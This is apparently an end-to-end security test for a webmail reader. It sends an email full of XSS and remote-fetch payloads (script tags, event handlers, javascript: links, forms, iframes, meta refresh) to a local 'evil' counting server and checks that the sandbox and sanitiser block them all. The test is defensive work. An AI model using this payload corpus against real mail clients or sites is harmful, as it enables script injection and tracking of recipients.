// Hostile HTML mail in the reader. An outside sender delivers over SMTP (swaks) a message into
// bob's Inbox whose HTML carries scripts, event handlers, javascript: URLs,
// CSS expressions, SVG, remote images and styles, meta refresh, forms, frames and objects, each
// aimed at a local "evil" server that counts every request it gets. Bob reads it in the real UI:
// first as Plico shows it (sanitised, in the sandboxed frame), then with the sanitiser switched
// off (the raw corpus put into the very frame the reader made, under the frame's own policy).
// Either way no script may run and no request may leave.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { startServer, startBrowser, screenshot, signUp } from './harness.mjs';

let server;
let bob;
let evil;
const evilHits = [];

function corpus(evilBase) {
  const ran = "parent.postMessage('E2E-SCRIPT-RAN','*');fetch('" + evilBase + "/fetch')";
  return `
<h1 id="greeting">E2E-HOSTILE greeting</h1>
<script>${ran}</script>
<script src="${evilBase}/script.js"></script>
<img src="x" onerror="${ran}">
<img id="remote" src="${evilBase}/tracker.gif" width="1" height="1">
<img srcset="${evilBase}/srcset.png 1x">
<body onload="${ran}" background="${evilBase}/background.png">
<svg onload="${ran}"><image href="${evilBase}/svg-image.png"/><script>${ran}</script></svg>
<a id="js-link" href="javascript:${ran}">a script link</a>
<a id="ok-link" href="https://example.org/page">a fine link</a>
<div style="background:url(${evilBase}/css-url.png);width:expression(alert(1))">css</div>
<style>@import url("${evilBase}/import.css"); body { background-image: url("${evilBase}/style-bg.png"); }</style>
<link rel="stylesheet" href="${evilBase}/link.css">
<link rel="prefetch" href="${evilBase}/prefetch">
<meta http-equiv="refresh" content="0;url=${evilBase}/refresh">
<form id="evil-form" action="${evilBase}/form" method="post"><input name="q" value="x"><button id="submit" type="submit">Send</button></form>
<iframe src="${evilBase}/iframe.html"></iframe>
<object data="${evilBase}/object.swf"></object>
<embed src="${evilBase}/embed.swf">
<video poster="${evilBase}/poster.png" src="${evilBase}/video.mp4" autoplay></video>
<audio src="${evilBase}/audio.mp3" autoplay></audio>
<details open ontoggle="${ran}"><summary>x</summary></details>
<math><maction actiontype="statusline" xlink:href="javascript:${ran}">m</maction></math>
<base href="${evilBase}/">
<img src="relative.png">`;
}

before(async () => {
  evil = http.createServer((request, response) => {
    evilHits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/plain' });
    response.end('evil');
  });
  await new Promise((resolve) => evil.listen(0, '127.0.0.1', resolve));
  server = await startServer({ smtp: true });
  bob = await startBrowser();
  await signUp(bob.page, server.baseUrl, 'bob');
  await bob.page.waitForURL('**/mail/inbox', { timeout: 60_000 });
});

after(async () => {
  await bob?.close();
  await server?.stop();
  evil?.close();
});

/**
 * What an outside sender does: deliver the message over SMTP, where the server encrypts it to
 * bob's key. Bob has the spam checks off, so it lands in his Inbox as it is.
 */
async function deliverHostileMessage(evilBase) {
  const request = bob.page.request;
  const settings = await request.put(`${server.baseUrl}/api/v1/account/settings`, {
    headers: { 'x-plico-csrf': '1' },
    data: { mail_analysis: false },
  });
  assert.equal(settings.status(), 200, await settings.text());
  const message = [
    'From: Mallory <mallory@evil.test>',
    'To: bob@plico.test',
    'Subject: E2E-HOSTILE newsletter',
    'Message-ID: <hostile.1@evil.test>',
    'Date: Tue, 24 Nov 2026 09:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'E2E-HOSTILE plain part',
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    '',
    corpus(evilBase),
    '--alt--',
    '',
  ].join('\r\n');
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'plico-e2e-hostile-'));
  try {
    const file = path.join(home, 'hostile.eml');
    fs.writeFileSync(file, message);
    const swaks = spawnSync('swaks', ['--server', `127.0.0.1:${server.smtpPort}`, '--from', 'mallory@evil.test',
      '--to', 'bob@plico.test', '--data', `@${file}`], { encoding: 'utf8', timeout: 60_000 });
    assert.equal(swaks.status, 0, swaks.stdout + swaks.stderr);
  } finally {
    fs.rmSync(home, { recursive: true, force: true });
  }
}

test('hostile HTML: nothing runs and nothing is fetched, sanitised or not', async () => {
  const evilBase = `http://127.0.0.1:${evil.address().port}`;
  await deliverHostileMessage(evilBase);
  const page = bob.page;
  // Chromium reports a request the frame's policy stopped as a failed request; what must never
  // happen is a request outside Plico that completes, or fails for another reason (it went out).
  const outside = (request) => !request.url().startsWith(server.baseUrl) && !request.url().startsWith('data:');
  const leaks = [];
  const blocked = [];
  page.on('requestfinished', (request) => { if (outside(request)) leaks.push(`finished ${request.url()}`); });
  page.on('requestfailed', (request) => {
    if (!outside(request)) return;
    const reason = request.failure()?.errorText ?? '';
    if (reason === 'csp' || reason.includes('ERR_BLOCKED_BY_CSP')) blocked.push(request.url());
    else leaks.push(`failed (${reason}) ${request.url()}`);
  });
  await page.evaluate(() => {
    window.__ran = [];
    window.addEventListener('message', (event) => window.__ran.push(String(event.data)));
  });

  await page.getByRole('link', { name: 'Sent' }).click();
  await page.getByRole('link', { name: /^Inbox/ }).click();
  await page.getByText('E2E-HOSTILE newsletter').click();
  await page.getByText('Not signed: the sender cannot be confirmed.').waitFor({ timeout: 30_000 });
  const frameElement = page.locator('iframe.message-frame');
  await frameElement.waitFor();
  assert.equal(await frameElement.getAttribute('sandbox'), '', 'a sandbox with no allowances');
  const frame = page.frameLocator('iframe.message-frame');
  await screenshot(page, '20-hostile-sanitised');
  await frame.getByText('E2E-HOSTILE greeting').waitFor({ timeout: 10_000 });
  const srcdoc = await frameElement.getAttribute('srcdoc');
  assert.match(srcdoc, /default-src 'none'; style-src 'unsafe-inline'; img-src data:;/);
  assert.doesNotMatch(srcdoc, /<script|onerror|onload|javascript:|<form|<iframe|<object|<embed|<meta http-equiv="refresh"/i);
  // The links the frame cannot open are listed, with noopener noreferrer.
  await page.getByText('Links in this message (1)').waitFor();
  const link = page.getByRole('link', { name: 'https://example.org/page' });
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  assert.equal(await link.getAttribute('target'), '_blank');
  await page.getByText('Remote images are blocked to protect your privacy.').waitFor();
  await screenshot(page, '20-hostile-sanitised');
  await page.waitForTimeout(1500);
  assert.deepEqual(await page.evaluate(() => window.__ran), [], 'no script ran (sanitised)');
  assert.deepEqual(evilHits, [], 'no request reached the evil server (sanitised)');

  // "Load remote content" widens the frame's policy to https: images, for this message only.
  await page.getByRole('button', { name: 'Load remote content' }).click();
  await page.getByText('Remote content is shown for this message.').waitFor();
  assert.match(await frameElement.getAttribute('srcdoc'), /img-src data: https:;/);

  // The sanitiser off: the raw corpus in the reader's own frame, under the frame's own policy.
  const raw = corpus(evilBase);
  await frameElement.evaluate((element, body) => {
    const head = element.getAttribute('srcdoc').split('<body>')[0];
    element.setAttribute('srcdoc', `${head}<body>${body}</body></html>`);
  }, raw);
  await frame.locator('#greeting').waitFor();
  // Try what a user might do: click the javascript: link and submit the form.
  await frame.locator('#js-link').click({ timeout: 5_000 }).catch(() => {});
  await frame.locator('#submit').click({ timeout: 5_000 }).catch(() => {});
  await page.waitForTimeout(3000);
  await screenshot(page, '21-hostile-unsanitised');
  assert.deepEqual(await page.evaluate(() => window.__ran), [], 'no script ran (sanitiser off)');
  assert.deepEqual(evilHits, [], 'no request reached the evil server (sanitiser off)');
  assert.deepEqual(leaks, [], 'the browser requested nothing outside Plico');
  assert.ok(blocked.length > 0, 'the corpus did try: the policy blocked its requests');
  assert.equal(new URL(page.url()).origin, server.baseUrl, 'the page did not navigate away');

  // The control: the same corpus in a plain page, without Plico's frame and policies, does run
  // scripts and reach the evil server, so the watchers above can see what they look for.
  const plain = await bob.context.newPage();
  await plain.evaluate(() => {
    window.__ran = [];
    window.addEventListener('message', (event) => window.__ran.push(String(event.data)));
  });
  await plain.setContent(raw);
  await plain.waitForTimeout(1500);
  assert.ok((await plain.evaluate(() => window.__ran ?? [])).includes('E2E-SCRIPT-RAN') || evilHits.length > 0,
    'the control page ran the corpus');
  assert.ok(evilHits.length > 0, 'the control page reached the evil server');
  await plain.close();
});
